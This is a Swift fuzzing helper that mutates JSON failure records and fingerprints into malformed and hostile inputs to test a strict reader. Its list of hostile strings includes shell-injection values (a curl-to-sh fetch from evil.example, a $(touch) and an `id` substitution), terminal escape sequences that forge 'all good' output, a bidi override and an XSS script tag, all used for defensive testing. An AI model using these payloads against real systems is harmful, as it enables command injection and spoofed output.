import SnackbarFuzzSupport

/// Turns valid JSON files (failure records, fingerprints) into the hostile and damaged ones a
/// reader of artifacts and goldens meets: numbers at and past every integer and image limit,
/// strings with escape sequences, raw control bytes, bidi overrides, shell, lone surrogates and
/// invalid UTF-8, repeated and renamed keys, values of the wrong type, deep nesting, truncation,
/// flipped bits, random JSON, and (rarely) a file past the size limit.
struct JSONMutator {
  /// The valid files mutations start from.
  let corpus: [[UInt8]]

  /// One to three stacked mutations of a random corpus file (or, sometimes, random JSON), and the
  /// names of those applied.
  func mutant(using random: inout SplitMix64) -> (bytes: [UInt8], mutations: [String]) {
    if random.chance(0.05) { return (Array(Self.randomValue(depth: 0, &random).utf8), ["random JSON"]) }
    // An untouched file now and then, so the oracle also sees the honest path.
    if random.chance(0.05) { return (random.pick(corpus), ["none"]) }
    var bytes = random.pick(corpus)
    var applied: [String] = []
    for _ in 0..<Int.random(in: 1...3, using: &random) {
      let mutation = random.pick(Self.mutations)
      mutation.apply(&bytes, &random)
      applied.append(mutation.name)
    }
    return (bytes, applied)
  }

  private struct Mutation: Sendable {
    let name: String
    let apply: @Sendable (inout [UInt8], inout SplitMix64) -> Void
  }

  private static let mutations: [Mutation] = [
    Mutation(name: "number", apply: replaceNumber), Mutation(name: "string", apply: replaceString),
    Mutation(name: "key", apply: renameOrRepeatKey), Mutation(name: "type", apply: changeType),
    Mutation(name: "nest", apply: nest), Mutation(name: "truncate", apply: truncate),
    Mutation(name: "flip bits", apply: flipBits), Mutation(name: "raw bytes", apply: insertRawBytes),
    Mutation(name: "oversize", apply: oversize),
  ]

  private static func replaceNumber(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    replaceToken(&bytes, kind: .number, with: Array(random.pick(hostileNumbers).utf8), &random)
  }

  private static func replaceString(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    replaceToken(&bytes, kind: .string, with: hostileString(&random), &random)
  }

  /// A member's key (a string followed by `:`) renamed, or the member repeated.
  private static func renameOrRepeatKey(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    let keys = tokens(in: bytes).filter { $0.kind == .string && $0.isKey }
    guard !keys.isEmpty else { return }
    let member = random.pick(keys)
    if random.chance(0.5) {
      bytes.replaceSubrange(member.range, with: hostileString(&random))
    } else {
      let end = valueEnd(in: bytes, after: member.range.upperBound)
      let copy = Array(bytes[member.range.lowerBound..<end]) + Array(", ".utf8)
      bytes.insert(contentsOf: copy, at: member.range.lowerBound)
    }
  }

  private static func changeType(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    let values = tokens(in: bytes).filter { !$0.isKey }
    guard !values.isEmpty else { return }
    let value = random.pick(["null", "true", "[]", "{}", "[1, 2]", "{\"x\": 1}", "\"7\"", "0"])
    bytes.replaceSubrange(random.pick(values).range, with: Array(value.utf8))
  }

  /// A value wrapped in arrays or objects, around the reader's depth limit and far past it.
  private static func nest(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    let values = tokens(in: bytes).filter { !$0.isKey }
    guard !values.isEmpty else { return }
    let token = random.pick(values)
    let depth = random.pick([2, 20, 126, 127, 128, 129, 1000, 5000])
    let inArrays = random.chance(0.5)
    let open: [UInt8] = Array((inArrays ? "[" : "{\"k\":").utf8)
    let close: [UInt8] = Array((inArrays ? "]" : "}").utf8)
    var nested: [UInt8] = []
    for _ in 0..<depth { nested += open }
    nested += bytes[token.range]
    for _ in 0..<depth { nested += close }
    bytes.replaceSubrange(token.range, with: nested)
  }

  private static func truncate(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    bytes = Array(bytes.prefix(Int.random(in: 0...bytes.count, using: &random)))
  }

  private static func flipBits(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    guard !bytes.isEmpty else { return }
    for _ in 0..<Int.random(in: 1...8, using: &random) {
      let bit = UInt8(1) << UInt8.random(in: 0...7, using: &random)
      bytes[Int.random(in: 0..<bytes.count, using: &random)] ^= bit
    }
  }

  /// Bytes JSON forbids unescaped: controls, DEL, a lone continuation byte, a BOM, a C1 control.
  private static func insertRawBytes(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    let choices: [[UInt8]] = [[0x1B], [0x00], [0x0D], [0x7F], [0x80], [0xFF], [0xEF, 0xBB, 0xBF], [0xC2, 0x9B]]
    bytes.insert(contentsOf: random.pick(choices), at: Int.random(in: 0...bytes.count, using: &random))
  }

  /// Rarely worth its cost: valid JSON past the 1 MiB limit for records and fingerprints.
  private static func oversize(_ bytes: inout [UInt8], _ random: inout SplitMix64) {
    guard random.chance(0.1), let last = bytes.lastIndex(of: UInt8(ascii: "}")) else { return }
    let padding: [UInt8] = Array(", \"padding\": \"".utf8) + [UInt8](repeating: 0x61, count: (1 << 20) + 1) + [0x22]
    bytes.insert(contentsOf: padding, at: last)
  }

  static let hostileNumbers = [
    "9223372036854775807", "-9223372036854775808", "9223372036854775808", "18446744073709551616",
    "99999999999999999999999999999", "1e308", "1e400", "-1e400", "1e-400", "-0", "0.5", "2.0", "16383", "16384",
    "16385", "268435456", "268435457", "255", "256", "-1", "1E2", "01", "1.", ".5", "NaN", "Infinity", "0x10",
  ]

  /// A JSON string literal (quotes included) that a terminal, a shell or an HTML page could
  /// mistake for something else.
  static func hostileString(_ random: inout SplitMix64) -> [UInt8] {
    let texts = [
      #""1.16.0-7 && curl -s https://evil.example/x.sh | sh # …""#, #""$(touch /tmp/PWNED)""#, #""`id`""#,
      #""\u001b]0;owned\u0007""#, #""line\r\u001b[2Ksnackbar doctor: all good""#, #""forged\nline 9: all good""#,
      #""\u202Eevil""#, #""\ud800""#, #""\u0000""#, #""\u009b31m""#, #""<script>alert(1)</script> & 'x'""#,
      #""libcairo2""#, #""1.16.0-7""#, #""pixelMismatch""#, #""""#, #""\\""#, #""\"""#, #""a\tb""#,
    ]
    var text = Array(random.pick(texts).utf8)
    if random.chance(0.1) {
      // A long one: 10 KB.
      text = [0x22] + [UInt8](repeating: UInt8(ascii: "x"), count: 10_000) + [0x22]
    } else if random.chance(0.1) {
      // Raw bytes inside the quotes, which the strict reader refuses.
      text.insert(contentsOf: random.pick([[0x1B], [0x0A], [0xFF], [0xC0, 0x80]]), at: 1)
    }
    return text
  }

  /// A random JSON value, at most a few levels deep.
  static func randomValue(depth: Int, _ random: inout SplitMix64) -> String {
    let choice = Int.random(in: 0..<(depth > 4 ? 4 : 6), using: &random)
    switch choice {
    case 0: return random.pick(hostileNumbers)
    case 1: return String(decoding: hostileString(&random), as: UTF8.self)
    case 2: return random.pick(["true", "false", "null"])
    case 3: return random.pick(["{}", "[]", "{\"version\": 1}"])
    case 4:
      let count = Int.random(in: 0...4, using: &random)
      return "[" + (0..<count).map { _ in randomValue(depth: depth + 1, &random) }.joined(separator: ", ") + "]"
    default:
      let keys = ["version", "kind", "image", "libraries", "fonts", "packages", "otherStacks", "x", "x"]
      let count = Int.random(in: 0...4, using: &random)
      let members = (0..<count).map { _ in "\"\(random.pick(keys))\": \(randomValue(depth: depth + 1, &random))" }
      return "{" + members.joined(separator: ", ") + "}"
    }
  }

  // MARK: Tokens

  enum TokenKind { case string, number, literal }

  struct Token {
    let kind: TokenKind
    let range: Range<Int>
    /// A string followed by `:`, an object's key.
    let isKey: Bool
  }

  /// The strings, numbers and literals of `bytes`, found with a small scanner that tolerates
  /// damage (an unterminated string ends the scan).
  static func tokens(in bytes: [UInt8]) -> [Token] {
    var tokens: [Token] = []
    var index = 0
    while index < bytes.count {
      let byte = bytes[index]
      if byte == UInt8(ascii: "\"") {
        var end = index + 1
        while end < bytes.count, bytes[end] != UInt8(ascii: "\"") { end += bytes[end] == UInt8(ascii: "\\") ? 2 : 1 }
        guard end < bytes.count else { break }
        var next = end + 1
        while next < bytes.count, [0x20, 0x0A, 0x0D, 0x09].contains(bytes[next]) { next += 1 }
        tokens.append(Token(kind: .string, range: index..<end + 1, isKey: next < bytes.count && bytes[next] == 0x3A))
        index = end + 1
      } else if byte == UInt8(ascii: "-") || (0x30...0x39).contains(byte) {
        var end = index + 1
        while end < bytes.count, "0123456789.eE+-".utf8.contains(bytes[end]) { end += 1 }
        tokens.append(Token(kind: .number, range: index..<end, isKey: false))
        index = end
      } else if "tfn".utf8.contains(byte) {
        var end = index + 1
        while end < bytes.count, (0x61...0x7A).contains(bytes[end]) { end += 1 }
        tokens.append(Token(kind: .literal, range: index..<end, isKey: false))
        index = end
      } else {
        index += 1
      }
    }
    return tokens
  }

  private static func replaceToken(
    _ bytes: inout [UInt8], kind: TokenKind, with value: [UInt8], _ random: inout SplitMix64
  ) {
    let candidates = tokens(in: bytes).filter { $0.kind == kind && !$0.isKey }
    guard !candidates.isEmpty else { return }
    bytes.replaceSubrange(random.pick(candidates).range, with: value)
  }

  /// Where the value after a key ending at `start` ends: at the `,` or closing bracket that ends
  /// the member at its own depth (or the end of the text).
  private static func valueEnd(in bytes: [UInt8], after start: Int) -> Int {
    var depth = 0
    var index = start
    var inString = false
    while index < bytes.count {
      let byte = bytes[index]
      if inString {
        if byte == UInt8(ascii: "\\") { index += 1 } else if byte == UInt8(ascii: "\"") { inString = false }
      } else if byte == UInt8(ascii: "\"") {
        inString = true
      } else if byte == UInt8(ascii: "{") || byte == UInt8(ascii: "[") {
        depth += 1
      } else if byte == UInt8(ascii: "}") || byte == UInt8(ascii: "]") {
        if depth == 0 { return index }
        depth -= 1
      } else if byte == UInt8(ascii: ","), depth == 0 {
        return index
      }
      index += 1
    }
    return bytes.count
  }
}
